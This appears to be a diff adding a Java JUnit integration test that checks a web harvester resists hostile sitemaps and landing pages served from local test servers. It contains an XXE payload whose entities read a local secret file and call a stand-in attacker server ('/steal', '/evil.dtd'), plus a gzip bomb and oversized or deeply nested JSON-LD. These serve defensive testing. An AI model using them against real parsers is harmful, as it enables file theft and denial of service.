@@ -1,0 +1,102 @@
+package org.lumbung.landing;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.TimeUnit;
+import java.util.zip.GZIPOutputStream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+import org.lumbung.dc.DcElement;
+import org.lumbung.dc.DcRecord;
+import org.lumbung.dc.LanguageDetector;
+import org.lumbung.harvest.HostQueues;
+import org.lumbung.harvest.HttpFetcher;
+import org.lumbung.harvest.HttpOptions;
+import org.lumbung.harvest.RetryPolicy;
+import org.lumbung.testing.WebSite;
+import org.lumbung.testing.WebSite.Page;
+
+/**
+ * Hostile landing pages and sitemaps from a real web server on 127.0.0.1, read as ingest reads them
+ * ({@link PageFetcher}, {@link LinkExpander}, {@link PageRecords}). Redirect loops and oversized pages are
+ * {@code PageFetcherIT}'s; deeply nested HTML is {@code HtmlMetaExtractorTest}'s. The timeout guards against a hang.
+ */
+@Timeout(value = 2, unit = TimeUnit.MINUTES)
+class HostilePageIT {
+
+    private static final long LIMIT = 4L << 20;
+
+    private static PageFetcher fetcher() {
+        HttpFetcher http = new HttpFetcher(new HttpOptions(Duration.ofSeconds(2), Duration.ofSeconds(20), "Lumbung/test",
+                null), new RetryPolicy(1, Duration.ofMillis(10), Duration.ofMillis(10), Duration.ofSeconds(1)),
+                new HostQueues(1, Duration.ZERO));
+        return new PageFetcher(http, PageValidators.NONE, new PageFetcher.Limits(LIMIT, 3, "Lumbung", Duration.ofHours(1),
+                100));
+    }
+
+    @Test
+    void aSitemapsExternalEntitiesAreNeverResolved(@TempDir Path dir) throws Exception {
+        Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-ON-THE-HARVESTER");
+        try (WebSite attacker = new WebSite(); WebSite journal = new WebSite()) {
+            journal.page("/sitemap.xml", Page.of(200, "application/xml", "<?xml version=\"1.0\"?>"
+                    + "<!DOCTYPE urlset [<!ENTITY x SYSTEM \"" + secret.toUri() + "\"><!ENTITY y SYSTEM \""
+                    + attacker.url("/steal") + "\"><!ENTITY % p SYSTEM \"" + attacker.url("/evil.dtd") + "\"> %p;]>"
+                    + "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>" + journal.url("/a/1")
+                    + "?q=&x;&y;</loc></url><url><loc>" + journal.url("/a/2") + "</loc></url></urlset>"));
+            PageFetcher fetcher = fetcher();
+            List<String> links;
+            try {
+                links = new LinkExpander(fetcher).sitemap(fetcher.fetch(journal.url("/sitemap.xml")));
+            } catch (PageFetchException refused) {
+                links = List.of(refused.getMessage());
+            }
+            assertThat(String.join(" ", links)).doesNotContain("TOP-SECRET");
+            assertThat(attacker.requests()).as("the attacker's server is never asked").isEmpty();
+        }
+    }
+
+    @Test
+    void aGzipBombPageStopsAtThePageLimit() throws Exception {
+        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
+        try (GZIPOutputStream gz = new GZIPOutputStream(zipped)) {
+            byte[] spaces = new byte[1 << 20];
+            java.util.Arrays.fill(spaces, (byte) ' ');
+            gz.write("<html><head><title>Bomb</title></head><body>".getBytes(StandardCharsets.UTF_8));
+            for (int i = 0; i < 512; i++) {
+                gz.write(spaces);
+            }
+        }
+        try (WebSite journal = new WebSite()) {
+            journal.page("/article/1", new Page(200, Map.of("Content-Type", "text/html", "Content-Encoding", "gzip"),
+                    zipped.toByteArray(), 0));
+            String url = journal.url("/article/1");
+            assertThatThrownBy(() -> fetcher().fetch(url)).isInstanceOf(PageFetchException.class)
+                    .hasMessage("page larger than 4194304 bytes (" + url + ")");
+        }
+    }
+
+    @Test
+    void hostileJsonLdAndEntitiesInHtmlLeaveThePageReadable(@TempDir Path dir) throws Exception {
+        Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-ON-THE-HARVESTER");
+        String page = "<!DOCTYPE html [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]><html><head>"
+                + "<meta name=\"citation_title\" content=\"Judul &x; asli\">"
+                + "<script type=\"application/ld+json\">" + "[".repeat(100_000) + "</script>"
+                + "<script type=\"application/ld+json\">{\"@type\":\"ScholarlyArticle\",\"name\":\""
+                + "x".repeat(30 << 20) + "\"}</script>"
+                + "<script type=\"application/ld+json\">{\"@type\":\"ScholarlyArticle\",\"author\":"
+                + "{\"@type\":\"Person\",\"name\":\"Siti Rahma\"}}</script></head><body></body></html>";
+        DcRecord record = new PageRecords(new LanguageDetector(List.of("id", "en"), 400))
+                .read("https://journal.example/article/view/1", page, true, "hostile", "hostile");
+        assertThat(record.values(DcElement.TITLE)).containsExactly("Judul &x; asli");
+        assertThat(record.values(DcElement.CREATOR)).containsExactly("Siti Rahma");
+    }
+}
